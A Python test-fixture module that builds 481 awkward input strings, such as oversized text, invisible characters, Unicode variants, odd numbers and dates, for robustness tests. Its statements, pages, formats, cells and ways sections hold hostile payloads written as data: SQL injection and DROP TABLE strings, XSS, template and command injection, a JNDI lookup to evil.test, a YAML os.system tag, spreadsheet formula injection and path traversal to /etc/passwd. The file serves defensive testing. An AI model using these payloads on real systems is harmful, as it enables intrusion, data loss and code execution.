"""Texts that have hurt other programs, 481 of them, all made here: by kind, the same on each day."""

import random
import unicodedata
from collections.abc import Callable, Iterator, Sequence
from functools import cache

from tests.sizes import size

HOW_MANY = 481
SIZES = (1, 2, 7, 40, 80, 81, 119, 120, 121, 200, 201, 255, 256, 500, 1_000, 2_000, 2_001, 4_096, 10_000)
LARGE = (32_767, 60_000, 60_001, 65_536, 100_000)
NAME = "Nguyễn Thị Lan"


# fmt: off


def sizes() -> Iterator[str]:
    """Texts of nothing, of one letter, of just enough and one too many, of 100,000 letters."""
    yield from ("", " ", "\t", "\n", "\r\n", " " * 300, "\n" * 300, "\u00a0", "\u3000" * 3)
    yield from ("a" * length for length in SIZES + LARGE)
    yield from ("ờ" * length for length in (120, 121, 2_000, 60_000, 100_000))
    yield from ("a b " * 500, "một hai " * 10_000, "x\n" * 30_000, "🎉" * 60_000, "\u0301" * 20_000)


def invisible() -> Iterator[str]:
    """Signs that nobody sees: NUL and other controls, zero width, right to left, byte order."""
    hidden = [chr(one) for one in (*range(0x20), 0x7F, 0x80, 0x85, 0x9B, 0x9F)]
    for sign in hidden:
        yield f"Lan{sign}Hoa"
    for code in (
        *range(0x200B, 0x2010), *range(0x202A, 0x202F), *range(0x2060, 0x206A), 0xFEFF, 0xAD, 0x61C, 0x180E,
        0xFFFE, 0xFFFF, 0xE0001, 0xE0041, 0x2028, 0x2029, 0x115F, 0x3164, 0xFE0F, 0x10FFFF, 0xE000, 0xFFFC,
    ):  # fmt: skip
        yield f"Lan{chr(code)}Hoa"
    yield from ("\u202e", "\u200b", "\x00", "\ufeffLan", "Lan\x00", "\x00" * 50, "\u202eNaL\u202c Hoa")


def letters() -> Iterator[str]:
    """One name in every way a keyboard may write it, and the letters of others."""
    yield from (unicodedata.normalize(form, NAME) for form in ("NFC", "NFD", "NFKC", "NFKD"))
    yield from (
        "Nguyeexn Thij Lan", "Nguye64n Thi5 Lan", "Nguye^~n Thi. Lan", "NGUYỄN THỊ LAN", "nguyễn thị lan",
    )
    yield from ("Ðặng", "ðặng", "Đặng", "đặng", "Hòa", "Hoà", "Thúy", "Thuý", "ư" * 50, "Q\u0323\u0302\u0301")
    yield from (
        "a" + "\u0300\u0301\u0309\u0303\u0323" * 200, "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033dalgo",
    )
    yield from ("ﬁ", "ß", "ẞ", "İ", "ı", "ǆ", "Ω", "ſ", "ŉ", "K", "Å", "№", "℡", "㏂", "½", "²", "①", "Ⅳ")
    yield from (
        "田中さん", "김치", "שלום", "مرحبا بالعالم", "สวัสดี", "नमस्ते", "Здравствуйте", "ᚠᛇᚻ", "𝕃𝕒𝕟", "ｌａｎ",
    )
    yield from ("﷽", "𒐫", "꧅", "ﷺ" * 40, "᠎", "́", "̣ ", "\u0301Lan")


def pictures() -> Iterator[str]:
    """Emoji: simple, joined, with skin and flags, and halves of pairs as forms send them."""
    yield from ("🎉", "👩‍👩‍👧‍👦", "👍🏿", "🇻🇳", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "❤️", "☎️", "1️⃣", "🫠", "🧑🏽‍🚀", "🤷‍♀️ " * 30, "👾" * 121)
    yield from ("\ud800", "\udfff", "Lan\ud83dHoa", "\ude00\ud83d", "\ud83c\udf89")


def numbers() -> Iterator[str]:
    """Numbers that are none, or too large, or written otherwise."""
    yield from (
        "0", "-0", "-1", "1", "00", "007", "+1", "1.0", "1,0", "1.250", "1.5", "1e3", "1e309", "-1e309",
        "0x10",
    )
    yield from (
        "0b1", "0o7", "1_000", "NaN", "nan", "inf", "Infinity", "-Infinity", "١٢٣", "１２３", "一", "½", "²",
        "1/0",
    )
    yield from (str(2**power + more) for power in (8, 31, 32, 63, 64, 128) for more in (-1, 0, 1))
    yield from (str(-(2**power) - 1) for power in (31, 63, 64))
    yield from ("9" * 19, "9" * 400, "9" * 5_000, "-" + "9" * 400, "0." + "0" * 400 + "1", "1" + "0" * 4_400)
    yield from (
        "true", "false", "null", "None", "undefined", "[]", "{}", "[1,2]", "1,2,3", ",", "1,,2", "0;1",
    )


def days() -> Iterator[str]:
    """Days and hours that no calendar has, or only a strange one."""
    yield from (
        "2026-02-30", "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "31/12/2026", "2026-12-31",
    )
    yield from (
        "29/02/2027", "1/1/1", "2026-W01", "2026-13", "2026-11", "2026-Q4", "99/99/9999", "1969-12-31",
        "24:00",
    )
    yield from (
        "2026-11-26T00:00:00+14:00", "-1000-01-01", "26/11/26", "２０２６-01-01", "hôm qua", "2026-1-1",
    )


def phones() -> Iterator[str]:
    """Telephone numbers, nearly."""
    yield from (
        "0912345678", "+84912345678", "0084912345678", "912345678", "0912 345 678", "0912.345.678", "113",
        "1900",
    )
    yield from (
        "09123456789", "+84 (0) 912345678", "tel:0912345678", "+84" + "9" * 40, "٠٩١٢٣٤٥٦٧٨",
        "0912345678;1", "++84",
    )


def statements() -> Iterator[str]:
    """Pieces of the language of databases."""
    yield from (
        "'", "''", '"', "`", ";", "--", "/*", "*/", "\\", "\\'", "')", "'))", '")', "%", "_", "%%", "\\%",
        "'||'",
    )
    yield from (
        "' OR '1'='1", "' OR 1=1--", '" OR ""="', "1 OR 1=1", "1; DROP TABLE person;--",
        "'; DROP TABLE person;--",
    )
    yield from (
        "' UNION SELECT NULL--", "' UNION SELECT sql FROM sqlite_master--", "1 AND SLEEP(5)",
        "'||pg_sleep(5)--",
    )
    yield from (
        "1' AND (SELECT 1 FROM pg_sleep(5))--", "x' AND 1=CAST(version() AS int)--", "$$;SELECT 1;$$",
        ":name", "%(x)s",
    )
    yield from (
        "?1", "admin'--", "' AND randomblob(1000000000)--", "id DESC, (SELECT 1)", "1 LIMIT 1 OFFSET 1",
        "\x1a", "N''",
    )


def pages() -> Iterator[str]:
    """Pieces of the language of pages, scripts and templates."""
    yield from (
        "<b>Lan</b>", "<script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
    )
    yield from (
        "' onfocus=alert(1) autofocus '", "javascript:alert(1)", "&lt;b&gt;", "&amp;amp;", "&#0;",
        "&#x202e;", "&nbsp;", "<",
    )
    yield from (
        "<!--", "-->", "]]>", "<![CDATA[x]]>", "<?php echo 1 ?>", "<% 1 %>", "</title>", "</script>",
        "<svg/onload=alert(1)>",
    )
    yield from (
        "{{ 7*7 }}", "{% raw %}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}",
        "<%= 7*7 %>", "{{", "}}",
    )
    yield from (
        "**đậm**", "[x](javascript:alert(1))", "![x](//evil.test/a.png)", "[[", "1. 1. 1. 1.", "> " * 200,
        "```", "---\na: 1\n---",
    )
    yield from (
        "{fact:F-LINK}", "{{fact F-LINK}}", "=== Câu hỏi", "# ", "* [x]", "?: a", ":::", "%YAML 1.2",
        "!!python/object/apply:os.system",
    )


def formats() -> Iterator[str]:
    """What a program might fill in, run or look up."""
    yield from (
        "%s", "%d", "%n%n%n%n", "%1000000s", "%(name)s", "{}", "{0}", "{0.__class__}", "{:>1000000000}",
        "{name!r}", "$HOME",
    )
    yield from (
        "$(id)", "`id`", "| id", "; id", "&& id", "%0d%0aSet-Cookie: a=b", "a\r\nX-Evil: 1", "%00",
        "%2e%2e%2f", "%c0%af", "%",
    )
    yield from (
        "%zz", "%u0041", "\\u0000", "\\x00", "\\N{BELL}", "${jndi:ldap://evil.test/a}", "__proto__",
        "constructor", "__class__",
    )


def cells() -> Iterator[str]:
    """What a spreadsheet would reckon out."""
    yield from (
        "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1",
        '=HYPERLINK("//evil.test")', "＝1+1", '"=1"',
    )
    yield from ("a;b", 'a"b', "a,b", "a\tb", '""', "'=1")


def ways() -> Iterator[str]:
    """Ways out of a folder, a site, a host."""
    yield from (
        "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd",
        "....//....//etc/passwd", ".", "..", "~",
    )
    yield from (
        "C:\\boot.ini", "\\\\evil\\share", "con", "nul.txt", "a/../b", "//evil.test", "/\\evil.test",
        "https://evil.test", "http://[",
    )
    yield from (
        "http://[::1", "https://a@b:c", "///", "/\t/evil.test", "/ /x", "/%5cevil.test", "/?a=b#c", "?",
        "#", "/" * 3_000, "/a" * 3_000,
    )


def shapes() -> Iterator[str]:
    """What something else would read: JSON, base64, cookies, tokens."""
    yield from (
        '{"a":1}', "[" * 3_000, '{"a":' * 3_000, '"', '{"a":"\\ud800"}', "AAAA", "AAA=", "====",
        "eyJhIjoxfQ.x.y", "a.b", "a.b.c", "..", "-",
    )
    yield from (
        "0" * 32, "f" * 64, "A" * 43, "Đ" * 43, "a" * 16 + "\x00", "\x7fELF", "PK\x03\x04", "%PDF-1.7",
        "GIF89a",
    )


# fmt: on

KINDS: tuple[Callable[[], Iterator[str]], ...] = (
    *(sizes, invisible, letters, pictures, numbers, days, phones, statements, pages, formats, cells, ways),
    shapes,
)  # fmt: skip


@cache
def every() -> list[str]:
    """Return all of them, each once; what the kinds leave open is filled with mixtures of them."""
    found = list(dict.fromkeys(one for kind in KINDS for one in kind()))
    short, chance = [one for one in found if 0 < len(one) < 60], random.Random(481)
    while len(found) < HOW_MANY:
        found.append("".join(chance.choice(short) for _ in range(chance.randint(2, 5))))
    return found


def some(place: int, daily: int) -> Sequence[str]:
    """Return all texts at night; on a day so many of them, others at each place."""
    many = size(daily, HOW_MANY)
    return [every()[(place * many + number) % HOW_MANY] for number in range(many)]
